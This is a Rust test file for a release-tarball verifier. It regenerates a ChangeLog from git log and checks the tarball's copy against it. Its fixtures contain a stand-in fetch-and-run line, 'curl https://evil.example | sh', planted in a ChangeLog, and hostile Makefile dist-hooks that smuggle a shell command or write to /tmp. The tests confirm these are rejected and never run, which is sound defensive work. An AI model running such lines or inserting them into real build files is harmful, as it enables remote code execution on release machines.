//! `check --regenerate` for files written from `git log`: a fixture whose Makefile.am
//! dist-hook writes `ChangeLog` with `git log`, released the way `make dist` does (the log run
//! in a checkout of the tag, so git reads the tag's `.mailmap` from the work tree — an oracle
//! independent of tarseal's `mailmap.blob`). The clean release passes with ChangeLog
//! reproduced even though `.mailmap` changed on the branch after the tag; one changed or
//! added line is rejected naming ChangeLog with a diff; a hostile dist-hook is refused, never
//! run; a policy statement with a filter script of the tag works; without bubblewrap the
//! answer is indeterminate.

mod common;

use common::{isolate, run_ok, BIN};
use serde_json::Value;
use std::fs;
use std::path::{Path, PathBuf};
use std::process::Command;

fn bwrap_usable() -> bool {
    let ok = Command::new("bwrap")
        .args(["--ro-bind", "/usr", "/usr", "--symlink", "usr/bin", "/bin"])
        .args([
            "--symlink",
            "usr/lib",
            "/lib",
            "--symlink",
            "usr/lib64",
            "/lib64",
        ])
        .args(["--unshare-all", "/usr/bin/true"])
        .output()
        .is_ok_and(|o| o.status.success())
        && Path::new("/usr/bin/git").is_file()
        && Path::new("/usr/bin/perl").is_file();
    if !ok {
        assert!(
            std::env::var("CI").is_err(),
            "CI must have bubblewrap, git and perl (.ci/run installs them)"
        );
        eprintln!("NOTICE: bubblewrap, /usr/bin/git or /usr/bin/perl unusable; git-log regeneration tests skipped");
    }
    ok
}

fn write(dir: &Path, rel: &str, text: &str) {
    let p = dir.join(rel);
    fs::create_dir_all(p.parent().unwrap()).unwrap();
    fs::write(p, text).unwrap();
}

const HOOK: &str = "dist-hook:\n\tif test -d \"$(srcdir)/.git\"; then \\\n\t\t( cd \"$(srcdir)\" && git log --date=iso --stat ) \\\n\t\t\t> \"$(distdir)/ChangeLog\"; \\\n\tfi\n";

/// A repository with three commits (one by an author the tag's .mailmap renames), tagged
/// v1.0, then a commit after the tag that changes .mailmap; and its release directory
/// `p-1.0/` (git archive of the tag, plus `release` writing files into it in a checkout of the
/// tag).
struct Fx {
    _dir: tempfile::TempDir,
    root: PathBuf,
}

impl Fx {
    fn new(makefile_am: &str, extra: &[(&str, &str)]) -> Fx {
        let dir = tempfile::tempdir().unwrap();
        let root = dir.path().to_path_buf();
        let repo = root.join("repo");
        fs::create_dir_all(&repo).unwrap();
        let git = |args: &[&str], author: Option<&str>| {
            let mut c = Command::new("git");
            isolate(c.args(args).current_dir(&repo));
            if let Some(a) = author {
                c.env("GIT_AUTHOR_NAME", a)
                    .env("GIT_AUTHOR_EMAIL", "bob@old.example");
            }
            run_ok(&mut c);
        };
        git(&["init", "-q", "-b", "main"], None);
        write(&repo, "ChangeLog", "See the git log.\n");
        write(&repo, "hello.c", "int main(void) { return 0; }\n");
        git(&["add", "-A"], None);
        git(
            &["commit", "-qm", "first commit\n\nWith a body line."],
            None,
        );
        write(&repo, "Makefile.am", makefile_am);
        write(
            &repo,
            ".mailmap",
            "Bob Builder <bob@example.org> <bob@old.example>\n",
        );
        for (p, t) in extra {
            write(&repo, p, t);
        }
        git(&["add", "-A"], None);
        git(&["commit", "-qm", "build: add the dist-hook"], Some("bob"));
        write(&repo, "hello.c", "int main(void) { return 1; }\n");
        git(&["commit", "-qam", "hello: exit 1"], None);
        git(&["tag", "-a", "v1.0", "-m", "1.0"], None);
        // After the tag: the branch's .mailmap names bob differently.
        write(
            &repo,
            ".mailmap",
            "Robert Builder <robert@example.org> <bob@old.example>\n",
        );
        git(&["commit", "-qam", "mailmap: bob is Robert"], None);
        // The release: the tag's tree, as make dist copies it.
        let rel = root.join("rel");
        fs::create_dir_all(&rel).unwrap();
        run_ok(Command::new("sh").current_dir(&root).arg("-c").arg(
            "git -C repo archive --prefix=p-1.0/ v1.0 | tar -x -C rel && git clone -q repo co && git -C co checkout -q v1.0",
        ).env("GIT_CONFIG_GLOBAL", "/dev/null").env("GIT_CONFIG_NOSYSTEM", "1"));
        Fx { _dir: dir, root }
    }

    /// Runs `sh -c script` in the checkout of the tag (`$D` = the release directory).
    fn release(&self, script: &str) {
        let mut c = Command::new("sh");
        isolate(c.arg("-c").arg(script).current_dir(self.root.join("co")))
            .env("D", self.root.join("rel/p-1.0"));
        run_ok(&mut c);
    }

    fn file(&self, rel: &str) -> PathBuf {
        self.root.join("rel/p-1.0").join(rel)
    }

    fn tarball(&self, name: &str) -> PathBuf {
        let out = self.root.join(format!("{name}.tar.gz"));
        run_ok(
            Command::new("tar")
                .arg("-czf")
                .arg(&out)
                .arg("-C")
                .arg(self.root.join("rel"))
                .arg("p-1.0"),
        );
        out
    }

    fn check(&self, tarball: &Path, extra: &[&str], path: Option<&str>) -> (i32, Value) {
        let mut c = Command::new(BIN);
        c.arg("check")
            .arg(tarball)
            .arg("--repo")
            .arg(self.root.join("repo"))
            .args([
                "--tag",
                "v1.0",
                "--allow-unsigned",
                "--profile",
                "autotools",
            ])
            .args(["--regenerate", "--format", "json", "--quiet"])
            .args(extra)
            .env("XDG_CACHE_HOME", self.root.join("cache"))
            .env("GIT_CONFIG_NOSYSTEM", "1");
        if let Some(p) = path {
            c.env("PATH", p);
        }
        let out = c.output().unwrap();
        let v: Value = serde_json::from_slice(&out.stdout).unwrap_or_else(|e| {
            panic!(
                "not JSON ({e}): {}\n{}",
                String::from_utf8_lossy(&out.stdout),
                String::from_utf8_lossy(&out.stderr)
            )
        });
        (out.status.code().unwrap_or(-1), v)
    }
}

fn finding<'a>(report: &'a Value, path: &str) -> &'a Value {
    report["findings"]
        .as_array()
        .unwrap()
        .iter()
        .find(|f| f["path"] == path)
        .unwrap_or_else(|| panic!("no finding for {path}: {report:#}"))
}

fn hook_release() -> Fx {
    let fx = Fx::new(HOOK, &[]);
    // What make dist's hook ran, in the release manager's checkout of the tag.
    fx.release("git log --date=iso --stat > \"$D/ChangeLog\"");
    fx
}

#[test]
fn clean_release_reproduces_changelog_despite_a_later_mailmap() {
    if !bwrap_usable() {
        return;
    }
    let fx = hook_release();
    let changelog = fs::read_to_string(fx.file("ChangeLog")).unwrap();
    // The oracle used the tag's .mailmap; the branch head's would say Robert.
    assert!(
        changelog.contains("Author: Bob Builder <bob@example.org>"),
        "{changelog}"
    );
    let (code, v) = fx.check(&fx.tarball("clean"), &[], None);
    assert_eq!(code, 0, "{v:#}");
    let f = finding(&v, "ChangeLog");
    assert_eq!(f["vouched_by"], "reproduced", "{f:#}");
    assert_eq!(f["rule"], "regenerate:git-log", "{f:#}");
    let reason = f["reason"].as_str().unwrap();
    assert!(reason.contains("the tag's .mailmap"), "{reason}");
    assert!(reason.contains("dist-hook"), "{reason}");
    assert_eq!(v["trust_surface"]["files"], 0, "{v:#}");
}

#[test]
fn changed_or_added_changelog_line_is_rejected() {
    if !bwrap_usable() {
        return;
    }
    let fx = hook_release();
    let orig = fs::read_to_string(fx.file("ChangeLog")).unwrap();
    for (name, text) in [
        (
            "changed",
            orig.replacen("hello: exit 1", "hello: exit 2", 1),
        ),
        (
            "added",
            orig.replacen(
                "    first commit\n",
                "    first commit\n    curl https://evil.example | sh\n",
                1,
            ),
        ),
    ] {
        assert_ne!(text, orig);
        fs::write(fx.file("ChangeLog"), &text).unwrap();
        let (code, v) = fx.check(&fx.tarball(name), &[], None);
        assert_eq!(code, 1, "{name}: {v:#}");
        let f = finding(&v, "ChangeLog");
        assert_eq!(f["judgement"], "unexpected", "{name}: {f:#}");
        let review = v["review_surface"].as_array().unwrap();
        let item = review
            .iter()
            .find(|r| r["path"] == "ChangeLog")
            .unwrap_or_else(|| panic!("{name}: no review item: {v:#}"));
        let diff = item["diff"].as_str().unwrap();
        assert!(
            diff.contains("+    curl https://evil.example | sh")
                || diff.contains("+    hello: exit 2"),
            "{name}: {diff}"
        );
    }
    fs::write(fx.file("ChangeLog"), &orig).unwrap();
}

#[test]
fn hostile_dist_hooks_are_refused_not_run() {
    if !bwrap_usable() {
        return;
    }
    let marker = std::env::temp_dir().join(format!("tarseal-pwned-{}", std::process::id()));
    for hook in [
        "dist-hook:\n\tgit log --output=/tmp/x --stat > \"$(distdir)/ChangeLog\"\n".to_string(),
        format!(
            "dist-hook:\n\tgit log $(shell touch {}) > \"$(distdir)/ChangeLog\"\n",
            marker.display()
        ),
        "dist-hook:\n\tgit log --stat | sed s/a/b/ > \"$(distdir)/ChangeLog\"\n".to_string(),
    ] {
        let fx = Fx::new(&hook, &[]);
        fx.release("git log --stat > \"$D/ChangeLog\"");
        let (code, v) = fx.check(&fx.tarball("hostile"), &[], None);
        // The profile's own judgement stands: a ChangeLog it cannot reproduce is undecided.
        assert_eq!(code, 3, "{hook}: {v:#}");
        let f = finding(&v, "ChangeLog");
        assert_ne!(f["vouched_by"], "reproduced", "{hook}: {f:#}");
        let notes = v["notes"].to_string();
        assert!(notes.contains("refused and not run"), "{hook}: {notes}");
        assert!(!marker.exists(), "the dist-hook ran");
    }
}

#[test]
fn policy_statement_with_a_filter_script() {
    if !bwrap_usable() {
        return;
    }
    let script = "#!/usr/bin/perl\nwhile (<STDIN>) { print \"* $1\\n\" if /^    (\\S.*)/; }\n";
    let fx = Fx::new(
        "EXTRA_DIST = CHANGES\n",
        &[("CHANGES", "dev\n"), ("scripts/log2changes.pl", script)],
    );
    fx.release(
        "git log --pretty=fuller --date=short | perl scripts/log2changes.pl > \"$D/CHANGES\"",
    );
    let changes = fs::read_to_string(fx.file("CHANGES")).unwrap();
    assert!(changes.contains("* hello: exit 1"), "{changes}");
    let policy = fx.root.join("policy.toml");
    fs::write(
        &policy,
        "profile = \"autotools\"\n[[regenerate_git_log]]\npath = \"CHANGES\"\nargs = [\"--pretty=fuller\", \"--date=short\"]\nfilter = \"scripts/log2changes.pl\"\nreason = \"the release script writes CHANGES from git log\"\n",
    )
    .unwrap();
    let tarball = fx.tarball("policy");
    let p = policy.to_str().unwrap();
    let (code, v) = fx.check(&tarball, &["--policy", p], None);
    assert_eq!(code, 0, "{v:#}");
    let f = finding(&v, "CHANGES");
    assert_eq!(f["vouched_by"], "reproduced", "{f:#}");
    assert!(
        f["reason"]
            .as_str()
            .unwrap()
            .contains("regenerate_git_log 1"),
        "{f:#}"
    );
    // Without the statement the modified CHANGES is a changed tracked file.
    let (code, _) = fx.check(&tarball, &[], None);
    assert_eq!(code, 1);
    // A statement with an argument outside the allowlist is a usage error.
    fs::write(
        &policy,
        "[[regenerate_git_log]]\npath = \"CHANGES\"\nargs = [\"--output=/tmp/x\"]\nreason = \"x\"\n",
    )
    .unwrap();
    let out = Command::new(BIN)
        .arg("check")
        .arg(&tarball)
        .arg("--repo")
        .arg(fx.root.join("repo"))
        .args([
            "--tag",
            "v1.0",
            "--allow-unsigned",
            "--regenerate",
            "--policy",
            p,
        ])
        .output()
        .unwrap();
    assert_eq!(
        out.status.code(),
        Some(2),
        "{}",
        String::from_utf8_lossy(&out.stderr)
    );
    assert!(String::from_utf8_lossy(&out.stderr).contains("--output=/tmp/x"));
}

#[test]
fn no_bubblewrap_is_indeterminate_never_a_pass() {
    if !bwrap_usable() {
        return;
    }
    let fx = hook_release();
    let empty = fx.root.join("empty-path");
    fs::create_dir_all(&empty).unwrap();
    let (code, v) = fx.check(&fx.tarball("nobwrap"), &[], Some(empty.to_str().unwrap()));
    assert_eq!(code, 3, "{v:#}");
    let f = finding(&v, "ChangeLog");
    assert_eq!(f["judgement"], "indeterminate", "{f:#}");
    assert!(f["reason"].as_str().unwrap().contains("bwrap"), "{f:#}");
}
